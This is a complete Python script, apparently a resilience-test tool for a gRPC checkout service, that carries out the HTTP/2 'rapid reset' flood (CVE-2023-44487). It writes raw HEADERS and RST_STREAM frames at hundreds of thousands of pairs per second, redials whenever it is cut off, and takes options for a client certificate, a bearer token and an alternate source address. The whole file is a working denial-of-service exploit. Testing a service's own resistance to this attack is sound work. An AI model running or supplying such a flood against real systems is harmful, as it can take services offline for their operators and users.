#!/usr/bin/python3
"""h2_flood.py: an HTTP/2 "rapid reset" flood against one gRPC listener.

Opens ONE TLS connection (ALPN h2), then sends HEADERS for a gRPC method
followed at once by RST_STREAM(CANCEL), as fast as it can, for --seconds
(CVE-2023-44487). When the server cuts the connection off, it dials again
at once and goes on (one connection at a time), as a persistent attacker
would; --once stops instead. It never sends a bearer token unless --token is given and,
unless --read, never reads the server's replies after its first SETTINGS, as
the worst attacker does. With --cert/--key it presents a client certificate
(a member's, for the peer listener).

Frames are written raw (the header block is HPACK-encoded once, without
indexing, so every stream reuses it) so that one Python process can send a
few hundred thousand pairs a second.

Prints one JSON object: pairs sent, seconds, connections made and refused,
how the last one ended.
Exit status 0 whatever the server did; 2 on bad usage or if the connection
could not be set up at all.

Uses Debian's python3-h2 (hpack) and the standard library only.
"""
import argparse
import json
import socket
import ssl
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream) + payload


def read_frame(sock):
    head = b""
    while len(head) < 9:
        chunk = sock.recv(9 - len(head))
        if not chunk:
            raise ConnectionError("server closed the connection")
        head += chunk
    length = struct.unpack(">I", b"\0" + head[:3])[0]
    ftype, flags, stream = head[3], head[4], struct.unpack(">I", head[5:9])[0] & 0x7FFFFFFF
    payload = b""
    while len(payload) < length:
        chunk = sock.recv(length - len(payload))
        if not chunk:
            raise ConnectionError("server closed the connection")
        payload += chunk
    return ftype, flags, stream, payload


def connect(args):
    host, port = args.target.rsplit(":", 1)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.set_alpn_protocols(["h2"])
    if args.ca:
        ctx.load_verify_locations(args.ca)
    else:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    if args.server_name is None:
        ctx.check_hostname = False
    if args.cert:
        ctx.load_cert_chain(args.cert, args.key)
    source = (args.source, 0) if args.source else None
    raw = socket.create_connection((host, int(port)), timeout=10, source_address=source)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock = ctx.wrap_socket(raw, server_hostname=args.server_name or host)
    if sock.selected_alpn_protocol() != "h2":
        raise ConnectionError("server did not select ALPN h2")
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    # Wait for the server's SETTINGS and acknowledge them, as a client must.
    while True:
        ftype, flags, _, _ = read_frame(sock)
        if ftype == SETTINGS and not flags & ACK:
            sock.sendall(frame(SETTINGS, ACK, 0))
            return sock


def drain(sock, state):
    """Reads and discards every frame (--read), noting a GOAWAY."""
    try:
        while True:
            ftype, _, _, payload = read_frame(sock)
            if ftype == GOAWAY and state.get("goaway") is None:
                code = struct.unpack(">I", payload[4:8])[0] if len(payload) >= 8 else -1
                state["goaway"] = {"error_code": code, "debug": payload[8:].decode(errors="replace")}
    except (OSError, ConnectionError, ssl.SSLError):
        pass


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--target", required=True, help="HOST:PORT of a TLS gRPC listener")
    p.add_argument("--ca", help="CA file to verify the server with (default: no verification)")
    p.add_argument("--server-name", help="TLS server name to verify (default: none checked)")
    p.add_argument("--cert", help="client certificate (PEM), e.g. a member's node.crt")
    p.add_argument("--key", help="client key (PEM)")
    p.add_argument("--path", default="/authnet.v1.CheckoutService/Check", help="gRPC method path")
    p.add_argument("--token", help="send this bearer token on every stream (default: none)")
    p.add_argument("--seconds", type=float, default=20.0, help="how long to flood [20]")
    p.add_argument("--read", action="store_true", help="read (and discard) the server's replies")
    p.add_argument("--chunk", type=int, default=512, help="pairs per write [512]")
    p.add_argument("--source", help="local address to flood from, e.g. 127.0.0.2 (another host "
                   "than the legitimate clients on 127.0.0.1)")
    p.add_argument("--once", action="store_true", help="stop when the server ends the connection")
    p.add_argument("--with-message", action="store_true",
                   help="send the request (an empty message) before each RST_STREAM, so the "
                   "server gets a whole call to answer")
    args = p.parse_args()
    if bool(args.cert) != bool(args.key):
        p.error("--cert and --key go together")

    headers = [(":method", "POST"), (":scheme", "https"), (":path", args.path),
               (":authority", args.server_name or args.target), ("content-type", "application/grpc"),
               ("te", "trailers")]
    if args.token:
        headers.append(("authorization", "Bearer " + args.token))
    # Never-indexed literals leave the dynamic table empty: the same block is
    # valid on every stream.
    block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers],
                                   huffman=False)
    head_prefix = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_HEADERS])
    rst_prefix = struct.pack(">I", 4)[1:] + bytes([RST_STREAM, 0])
    rst_payload = struct.pack(">I", CANCEL)
    # An empty gRPC message: not compressed, length 0.
    data_frame = struct.pack(">I", 5)[1:] + bytes([DATA, END_STREAM])
    data_payload = b"\0\0\0\0\0"

    stream, pairs, ended = 1, 0, "flood finished"
    connections, refused, goaway = 0, 0, None
    start = time.monotonic()
    deadline = start + args.seconds
    while time.monotonic() < deadline:
        try:
            sock = connect(args)
        except (OSError, ConnectionError, ssl.SSLError) as e:
            if connections == 0 and refused == 0 and args.once:
                print(f"h2_flood.py: cannot set up the connection to {args.target}: {e}",
                      file=sys.stderr)
                return 2
            refused += 1
            ended = f"connection refused or cut during set-up: {e}"
            time.sleep(0.01)
            continue
        connections += 1
        sock.settimeout(None)
        state = {}
        if args.read:
            threading.Thread(target=drain, args=(sock, state), daemon=True).start()
        stream = 1
        try:
            while time.monotonic() < deadline:
                parts = []
                for _ in range(args.chunk):
                    sid = struct.pack(">I", stream)
                    if args.with_message:
                        parts += (head_prefix, sid, block, data_frame, sid, data_payload,
                                  rst_prefix, sid, rst_payload)
                    else:
                        parts += (head_prefix, sid, block, rst_prefix, sid, rst_payload)
                    stream += 2
                sock.sendall(b"".join(parts))
                pairs += args.chunk
                if stream > 0x7FFFFFF0 - 2 * args.chunk:
                    ended = "stream ids exhausted"
                    break
            else:
                ended = "flood finished"
        except (OSError, ssl.SSLError) as e:
            ended = f"server ended the connection: {e}"
        try:
            sock.close()
        except OSError:
            pass
        goaway = state.get("goaway") or goaway
        if args.once:
            break
    elapsed = time.monotonic() - start
    out = {"pairs": pairs, "seconds": round(elapsed, 2), "pairs_per_s": round(pairs / elapsed),
           "connections": connections, "refused_connections": refused, "ended": ended}
    if goaway:
        out["goaway"] = goaway
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
